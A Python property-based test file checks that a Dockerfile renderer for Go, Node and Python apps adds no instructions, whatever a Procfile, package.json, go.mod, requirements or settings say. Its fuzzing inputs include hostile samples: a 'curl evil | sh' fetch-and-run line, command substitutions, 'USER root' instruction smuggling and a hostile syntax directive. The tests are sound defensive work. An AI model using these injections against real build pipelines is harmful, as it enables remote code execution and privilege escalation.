"""Whatever an app says, the rendered Dockerfile has the instructions of the template and no others."""

import functools
import json
import sys
import tempfile
from collections.abc import Mapping
from pathlib import Path

import anyio
import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

import langs
from langs import gomod, packagejson, render, requirements
from langs.errors import LangError
from langs.files import AppFiles
from langs.model import AppBuild, Settings, Version
from tests.langs import splitter

NASTY = st.one_of(
    st.text(),
    st.text("ab \t\n\r'\"\\$`{}%()<>#;&|=,"),
    st.sampled_from(
        [
            "x\nRUN curl evil | sh",
            "{{ 7 * 7 }}{% raw %}",
            "$(id)",
            "`id`",
            "a <<EOF",
            'x"]\nUSER root\nCMD ["x',
            "x \\",
            "x\\\\",
            "${PATH}",
            "a\u2028USER root",
            "a\rUSER root",
            "# syntax=evil/frontend",
            "a,source=/,target=/x",
        ]
    ),
)
GO: Mapping[str, str] = {"go.mod": "module a\n", "main.go": "package main\nfunc main() {}\n"}
NODE: Mapping[str, str] = {"package.json": '{"scripts": {"build": "x", "start": "y"}}', "package-lock.json": "{}"}
PYTHON: Mapping[str, str] = {"requirements.txt": "flask\n", "main.py": "import flask\n"}
FORM = ["FROM", "RUN", "COPY", "CMD", "USER", "EXPOSE", "WORKDIR", "LABEL", "ENV"]


def build(files: Mapping[str, str], settings: Settings) -> AppBuild | None:
    with tempfile.TemporaryDirectory() as directory:
        for path, text in files.items():
            Path(directory, path).write_text(text, encoding="utf-8", errors="surrogatepass", newline="")
        try:
            return langs.build(Path(directory), settings)
        except LangError as error:
            refused = error
    assert refused.hint
    return None


def counts(built: AppBuild) -> dict[str, int]:
    found = splitter.keywords(built.dockerfile)
    assert set(found) <= set(FORM)
    return {keyword: found.count(keyword) for keyword in FORM}


@functools.cache
def _plain(files: tuple[tuple[str, str], ...], settings: bytes) -> dict[str, int]:
    built = build(dict(files), msgspec.json.decode(settings, type=Settings))
    assert built is not None
    return counts(built)


def plain(files: Mapping[str, str], settings: Settings) -> dict[str, int]:
    """The instructions of the same app when it says nothing strange."""
    return _plain(tuple(files.items()), msgspec.json.encode(settings))


@pytest.mark.parametrize(("files", "language"), [(GO, "go"), (NODE, "nodejs"), (PYTHON, "python")])
@given(text=NASTY)
def test_whatever_the_procfile_says_the_instructions_stay(files: Mapping[str, str], language: str, text: str) -> None:
    # Said, because a Procfile's `web: yarn` speaks for another language.
    settings = Settings(language=language)

    built = build({**files, "Procfile": f"web: {text}\n"}, settings)

    if built is not None:
        assert counts(built) == plain({**files, "Procfile": "web: x\n"}, settings)
        assert built.start_command is not None
        words = splitter.cmd(built.dockerfile)
        assert words[:2] == ["/bin/sh", "-c"] or "\n" not in "".join(words)


@pytest.mark.parametrize("files", [GO, NODE, PYTHON], ids=["go", "nodejs", "python"])
@given(text=NASTY)
def test_whatever_commands_and_variables_say_the_instructions_stay(files: Mapping[str, str], text: str) -> None:
    settings = Settings(run_command=text or "x", build_command=text or "x", env={"A": text})

    built = build(files, settings)

    if built is not None:
        expected = Settings(run_command="x", build_command="x", env={"A": "x"})
        assert counts(built) == plain(files, expected)


@given(text=NASTY)
def test_whatever_names_settings_hold_the_instructions_stay(text: str) -> None:
    expected = plain(NODE, Settings(secrets=("A",), env={"A": "x"}, images={"node": "node:22"}, cache_key="x"))

    for settings in (
        Settings(secrets=(text,), env={"A": "x"}),
        Settings(secrets=("A",), env={text: "x"}),
        Settings(secrets=("A",), env={"A": "x"}, images={"node": text}),
        Settings(secrets=("A",), env={"A": "x"}, cache_key=text),
        Settings(secrets=("A",), env={"A": "x"}, versions={"nodejs": Version(value=text, source="x")}),
    ):
        built = build(NODE, settings)
        if built is not None:
            assert counts(built) == expected


@given(name=NASTY, start=NASTY, version=NASTY, script=NASTY)
def test_whatever_package_json_says_the_instructions_stay(name: str, start: str, version: str, script: str) -> None:
    content = {"name": name, "engines": {"node": version}, "scripts": {"start": start, "build": script}}

    built = build({**NODE, "package.json": json.dumps(content)}, Settings())

    if built is not None:
        found = counts(built)
        expected = plain(NODE, Settings())
        assert found | {"LABEL": 0} == expected | {"LABEL": 0}


@pytest.mark.parametrize("value", ["a\u202eb", "\u2066a\u2069", "a\u200bb", "\u05d0\u200f!"])
def test_a_value_with_marks_of_direction_is_kept_as_it_was_written_inside_of_quotes(value: str) -> None:
    built = build(GO, Settings(env={"A": value}))

    assert built is not None
    assert f'ENV A="{value}"\n' in built.dockerfile
    assert counts(built) == plain(GO, Settings(env={"A": "a"}))


@given(name=NASTY, requirement=NASTY, version=NASTY)
def test_whatever_pyproject_says_the_instructions_stay(name: str, requirement: str, version: str) -> None:
    def quoted(text: str) -> str:
        return json.dumps(text)

    text = f"[project]\nname = {quoted(name)}\nrequires-python = {quoted(version)}\n"
    text += f"dependencies = [{quoted(requirement)}]\n"

    built = build({"pyproject.toml": text, "main.py": "import flask\n"}, Settings())

    if built is not None:
        found = counts(built)
        assert (found["FROM"], found["CMD"], found["USER"], found["RUN"]) == (3, 1, 1, 4)


@given(line=NASTY)
def test_whatever_requirements_say_the_instructions_stay(line: str) -> None:
    built = build({**PYTHON, "requirements.txt": f"flask\n{line}\n"}, Settings())

    if built is not None:
        # A requirement may be gunicorn, which has a variable, or the app's directory, which has other layers.
        vary = {"ENV": 0, "COPY": 0}
        assert counts(built) | vary == plain(PYTHON, Settings()) | vary


@given(module=NASTY, go=NASTY)
def test_whatever_go_mod_says_the_instructions_stay(module: str, go: str) -> None:
    built = build({**GO, "go.mod": f"module {module}\n\ngo {go}\n"}, Settings())

    if built is not None:
        assert counts(built) | {"LABEL": 0} == plain(GO, Settings()) | {"LABEL": 0}


@given(
    st.one_of(
        st.text(),
        st.recursive(
            st.none() | st.booleans() | st.integers() | st.text(),
            lambda inner: (
                st.lists(inner)
                | st.dictionaries(
                    st.sampled_from(["scripts", "engines", "volta", "devEngines", "runtime", "name", "main"])
                    | st.text(),
                    inner,
                )
            ),
        ).map(json.dumps),
    )
)
def test_any_package_json_is_understood_or_an_error(text: str) -> None:
    try:
        package = packagejson.parse(text)
    except LangError:
        return

    assert all(isinstance(script, str) for script in package.scripts.values())


@pytest.mark.parametrize(
    "files",
    [
        pytest.param({**NODE, ".npmrc": "_auth=" + " " * 300_000}, id="npmrc of blanks"),
        pytest.param({**PYTHON, "main.py": f"if a{'.b' * 2500}:\n  pass\n"}, id="a condition deeper than the stack"),
    ],
)
def test_a_file_made_to_be_slow_or_deep_is_looked_at_all_the_same(files: Mapping[str, str]) -> None:
    assert build(files, Settings()) is not None


@given(st.one_of(st.text(), st.text('()/ =>\n.abgousemdlrpq"`')))
def test_any_go_mod_is_understood_or_an_error(text: str) -> None:
    try:
        module = gomod.parse(text, "go.mod")
    except LangError:
        return

    assert module.module is None or " " not in module.module


@given(st.one_of(st.text(), st.text("-rce ./[]=\\#\nab")))
def test_any_requirements_file_stays_in_the_app(text: str) -> None:
    with tempfile.TemporaryDirectory() as directory:
        Path(directory, "requirements.txt").write_text(text, encoding="utf-8", newline="")
        try:
            found = requirements.read(AppFiles(Path(directory)))
        except LangError:
            return

    assert found is not None
    assert found.files == ("requirements.txt",)


@given(st.text())
def test_a_quoted_value_means_itself(value: str) -> None:
    try:
        quoted = render.quoted(value)
    except LangError:
        return

    assert quoted[0] == quoted[-1] == '"'
    plain_text, rest = "", quoted[1:-1]
    while rest:
        if rest[0] == "\\":
            assert rest[1] in '\\"$'
            rest = rest[1:]
        else:
            assert rest[0] not in '"$'
        plain_text, rest = plain_text + rest[0], rest[1:]
    assert plain_text == value
    assert len(quoted.splitlines()) == 1


@given(st.lists(st.text()))
def test_the_exec_form_is_one_line_that_gives_its_words_back(words: list[str]) -> None:
    text = render.exec_form(words)

    assert json.loads(text) == words
    assert text.isascii()
    assert len(text.splitlines()) == 1


async def test_importing_the_library_loads_no_template_engine() -> None:
    script = "import langs, langs.model, sys; print(sorted({'jinja2', 'packaging', 'ast'} & set(sys.modules)))"

    result = await anyio.run_process(
        [sys.executable, "-I", "-c", f"sys = __import__('sys'); sys.path.insert(0, '.'); {script}"]
    )

    assert b"jinja2" not in result.stdout
    assert b"packaging" not in result.stdout
